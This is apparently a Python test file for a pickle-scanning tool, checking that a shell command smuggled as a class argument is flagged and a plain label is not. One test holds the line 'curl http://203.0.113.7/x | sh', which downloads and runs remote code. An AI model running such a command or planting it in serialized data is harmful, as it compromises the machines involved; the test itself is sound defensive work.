"""Arguments that an attack is made of."""

from __future__ import annotations

from samples.judging import levels
from samples.opcodes import call, pickle, text

from picklewatch.core.model import Level


def test_a_shell_command_for_an_unknown_class_is_unsafe() -> None:
    """What would be a member of an enumeration is an attack's call with such an argument."""
    found = levels(pickle(2, call("mylib.kinds", "Kind", text("curl http://203.0.113.7/x | sh"))))
    assert found["suspicious-arguments"] in {Level.UNSAFE, Level.MALICIOUS}


def test_a_label_is_not_reported() -> None:
    """Members of enumerations are made from labels."""
    assert levels(pickle(2, call("mylib.kinds", "Kind", text("code")))) == {"unvouched-class": Level.UNVERIFIED}
